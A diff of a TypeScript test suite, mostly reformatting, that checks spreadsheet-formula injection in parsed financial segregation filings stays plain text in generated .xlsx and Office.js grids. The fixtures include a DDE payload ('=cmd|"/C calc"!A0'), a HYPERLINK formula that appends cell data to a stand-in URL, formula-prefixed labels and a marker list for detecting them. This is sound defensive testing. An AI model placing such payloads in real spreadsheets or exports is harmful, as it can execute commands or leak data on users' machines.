@@ -16,9 +16,17 @@ import { readXlsx } from "../support/xlsx-hyperformula";
  * through the Office.js writer's grid as a quote-prefixed value in a Text-formatted cell — never as
  * a formula; filing text reaches a formula only inside a string literal or a quoted sheet name.
  */
-const SAMPLE = readFileSync(join(__dirname, "../fixtures/citigroup-2013-06-18-daily-seg-focus-ii-amendment.txt"), "utf8");
+const SAMPLE = readFileSync(
+  join(__dirname, "../fixtures/citigroup-2013-06-18-daily-seg-focus-ii-amendment.txt"),
+  "utf8",
+);
 const FIRM = '=HYPERLINK("http://example.invalid/?"&A1,"Citigroup")';
-const LABELS = ["=SUM(1,2) Cash", "+Securities (at market)", "-Net unrealized profit (loss) in open futures contracts traded on a contract market", "@Add market value of open option contracts purchased on a contract market"];
+const LABELS = [
+  "=SUM(1,2) Cash",
+  "+Securities (at market)",
+  "-Net unrealized profit (loss) in open futures contracts traded on a contract market",
+  "@Add market value of open option contracts purchased on a contract market",
+];
 const NOTE = "=1+1 Input for Sequestration Statement will not be required until 10/4/2010.";
 const TITLE = 'Daily Segregation - =cmd|"/C calc"!A0 Statement';
 
@@ -33,7 +41,11 @@ const hostile = SAMPLE.replace(/(Firm Name:)Citigroup Global Markets Inc\./g, `$
 /** Every non-empty cell of the workbook with its ExcelJS type and value. */
 function cells(wb: Workbook): { sheet: string; address: string; type: ValueType; value: unknown }[] {
   const out: { sheet: string; address: string; type: ValueType; value: unknown }[] = [];
-  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((c) => void out.push({ sheet: ws.name, address: c.address, type: c.type, value: c.value }))));
+  wb.eachSheet((ws) =>
+    ws.eachRow((row) =>
+      row.eachCell((c) => void out.push({ sheet: ws.name, address: c.address, type: c.type, value: c.value })),
+    ),
+  );
   return out;
 }
 
@@ -55,7 +67,13 @@ function codeOf(formula: string): string {
 }
 
 async function workbookOf(filing: Filing, result?: ParseResult): Promise<Workbook> {
-  const plan = layoutWorkbook({ filings: [filing], findings: [checkFiling(filing)], sourceName: "=evil().txt", tolerance: 0, diagnostics: result?.diagnostics ?? [] });
+  const plan = layoutWorkbook({
+    filings: [filing],
+    findings: [checkFiling(filing)],
+    sourceName: "=evil().txt",
+    tolerance: 0,
+    diagnostics: result?.diagnostics ?? [],
+  });
   return readXlsx(await writeXlsx(plan));
 }
 
@@ -66,10 +84,20 @@ describe("injection: filing text that looks like a formula stays text", () => {
   it("survives the parser as text: firm, labels, note and title as printed (a tab before a value only separates)", () => {
     assert.equal(parsed.filings.length, 1);
     assert.equal(filing.firm, FIRM);
-    assert.deepEqual(filing.statements[1]?.lines.slice(0, 4).map((l) => l.label), LABELS);
+    assert.deepEqual(
+      filing.statements[1]?.lines.slice(0, 4).map((l) => l.label),
+      LABELS,
+    );
     assert.equal(filing.statements[2]?.title, TITLE);
-    assert.deepEqual(filing.statements[2]?.notes.map((n) => n.text), [NOTE]);
-    assert.equal(filing.statements[1]?.lines[0]?.value, 5598505864, "the figure beside a hostile label is read as usual");
+    assert.deepEqual(
+      filing.statements[2]?.notes.map((n) => n.text),
+      [NOTE],
+    );
+    assert.equal(
+      filing.statements[1]?.lines[0]?.value,
+      5598505864,
+      "the figure beside a hostile label is read as usual",
+    );
   });
 
   it("lands in the .xlsx as text cells, never as formulas", async () => {
@@ -78,18 +106,27 @@ describe("injection: filing text that looks like a formula stays text", () => {
       const holders = all.filter((c) => typeof c.value === "string" && c.value.includes(text));
       assert.ok(holders.length > 0, `${text} is in the workbook`);
       for (const c of holders) assert.equal(c.type, ValueType.String, `${c.sheet}!${c.address}`);
-      assert.ok(all.some((c) => c.value === text), `${text} has a cell of its own, exactly`);
+      assert.ok(
+        all.some((c) => c.value === text),
+        `${text} has a cell of its own, exactly`,
+      );
     }
   });
 
   it("reaches a formula only inside a string literal or a quoted sheet name", async () => {
     const formulas = cells(await workbookOf(filing, parsed)).flatMap((c) =>
-      typeof c.value === "object" && c.value !== null && "formula" in c.value ? [{ at: `${c.sheet}!${c.address}`, formula: String(c.value.formula) }] : [],
+      typeof c.value === "object" && c.value !== null && "formula" in c.value
+        ? [{ at: `${c.sheet}!${c.address}`, formula: String(c.value.formula) }]
+        : [],
     );
-    assert.ok(formulas.some((f) => f.formula.includes("cmd|")), "the unknown statement's sheet is referred to by formulas");
+    assert.ok(
+      formulas.some((f) => f.formula.includes("cmd|")),
+      "the unknown statement's sheet is referred to by formulas",
+    );
     for (const { at, formula } of formulas) {
       const code = codeOf(formula);
-      for (const marker of ["HYPERLINK(\"http", "SUM(1,2)", "cmd", "calc", "evil", "1+1"]) assert.ok(!code.includes(marker), `${at}: ${formula}`);
+      for (const marker of ['HYPERLINK("http', "SUM(1,2)", "cmd", "calc", "evil", "1+1"])
+        assert.ok(!code.includes(marker), `${at}: ${formula}`);
     }
   });
 
@@ -100,12 +137,22 @@ describe("injection: filing text that looks like a formula stays text", () => {
       ...filing,
       firm: "\t@firm",
       statements: filing.statements.map((s) =>
-        s !== segregation ? s : { ...s, notes: [{ text: "\r-3 note", sourceLine: 60 }], lines: s.lines.map((l, i) => (i === 0 ? { ...l, label: "\t=1+1 tab" } : i === 1 ? { ...l, label: "\r=2+2 cr" } : l)) },
+        s !== segregation
+          ? s
+          : {
+              ...s,
+              notes: [{ text: "\r-3 note", sourceLine: 60 }],
+              lines: s.lines.map((l, i) =>
+                i === 0 ? { ...l, label: "\t=1+1 tab" } : i === 1 ? { ...l, label: "\r=2+2 cr" } : l,
+              ),
+            },
       ),
     };
     const all = cells(await workbookOf(odd));
     for (const text of ["\t@firm", "\t=1+1 tab", "\r=2+2 cr", "\r-3 note"]) {
-      const [cell, ...more] = all.filter((c) => typeof c.value === "string" && c.value.replace(/\r\n?/g, "\n") === text.replace(/\r/g, "\n"));
+      const [cell, ...more] = all.filter(
+        (c) => typeof c.value === "string" && c.value.replace(/\r\n?/g, "\n") === text.replace(/\r/g, "\n"),
+      );
       assert.ok(cell, JSON.stringify(text));
       assert.equal(cell.type, ValueType.String);
       assert.equal(more.length, 0);
@@ -120,7 +167,12 @@ describe("injection: filing text that looks like a formula stays text", () => {
 
 describe("injection: the Office.js writer's grid writes filing text as text", () => {
   const filing = parseFilings(hostile).filings[0]!;
-  const plan = layoutWorkbook({ filings: [filing], findings: [checkFiling(filing)], sourceName: "=evil().txt", tolerance: 0 });
+  const plan = layoutWorkbook({
+    filings: [filing],
+    findings: [checkFiling(filing)],
+    sourceName: "=evil().txt",
+    tolerance: 0,
+  });
   const grids = plan.sheets.map((sheet) => ({ sheet, grid: sheetGrid(sheet, plan.styles) }));
 
   it("quote-prefixes every text or link cell that Excel could read as a formula, in a cell formatted as Text", () => {
@@ -143,7 +195,8 @@ describe("injection: the Office.js writer's grid writes filing text as text", ()
         row.forEach((value, c) => {
           if (typeof value !== "string" || !value.startsWith("=")) return;
           assert.equal(sheet.rows[r]?.[c]?.kind, "formula", `${sheet.name} row ${r + 1}: ${value}`);
-          for (const marker of ["HYPERLINK(\"http", "SUM(1,2)", "cmd", "calc", "evil", "1+1"]) assert.ok(!codeOf(value).includes(marker), value);
+          for (const marker of ['HYPERLINK("http', "SUM(1,2)", "cmd", "calc", "evil", "1+1"])
+            assert.ok(!codeOf(value).includes(marker), value);
         }),
       );
   });
